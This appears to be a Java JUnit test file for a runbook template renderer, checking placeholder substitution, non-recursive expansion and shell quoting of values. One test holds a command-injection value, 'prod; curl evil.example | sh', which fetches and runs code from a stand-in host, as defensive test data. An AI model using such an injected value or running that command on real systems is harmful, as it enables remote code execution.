package io.onloop.domain.runbook;

import org.junit.jupiter.api.Test;

import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class TemplatesTest {
    @Test
    void fillsValuesFallbacksAndPlaceholders() {
        var v = Map.of("region", "eu-west-1", "labels.pod", "api-7f9");
        assertThat(Templates.render("{{region}} / {{ labels.pod }} / {{namespace|<namespace>}} / {{node}}", v))
                .isEqualTo("eu-west-1 / api-7f9 / <namespace> / <node>");
        assertThat(Templates.render("no placeholders", v)).isEqualTo("no placeholders");
    }

    @Test
    void aValueIsInsertedOnceAndNeverExpandedAgain() {
        var v = Map.of("title", "{{labels.secret}}", "labels.secret", "s3cr3t");
        assertThat(Templates.render("Alert: {{title}}", v)).isEqualTo("Alert: {{labels.secret}}");
    }

    @Test
    void commandsQuoteValuesTheShellWouldInterpret() {
        var v = Map.of("pod", "api-7f9", "namespace", "prod; curl evil.example | sh", "node", "it's");
        assertThat(Templates.renderCommand("kubectl -n {{namespace}} logs {{pod}}", v))
                .isEqualTo("kubectl -n 'prod; curl evil.example | sh' logs api-7f9");
        assertThat(Templates.renderCommand("x {{node}}", v)).isEqualTo("x 'it'\\''s'");
        assertThat(Templates.render("prose {{namespace}}", v)).isEqualTo("prose prod; curl evil.example | sh");
    }

    @Test
    void listsAndChecksVariables() {
        assertThat(Templates.variables("a {{region}} b {{labels.dimension_X|<x>}} {{bogus}}"))
                .containsExactly("region", "labels.dimension_X", "bogus");
        assertThat(Templates.isKnown("labels.pod")).isTrue();
        assertThat(Templates.isKnown("observed")).isTrue();
        assertThat(Templates.isKnown("labels.")).isFalse();
        assertThat(Templates.isKnown("bogus")).isFalse();
    }
}
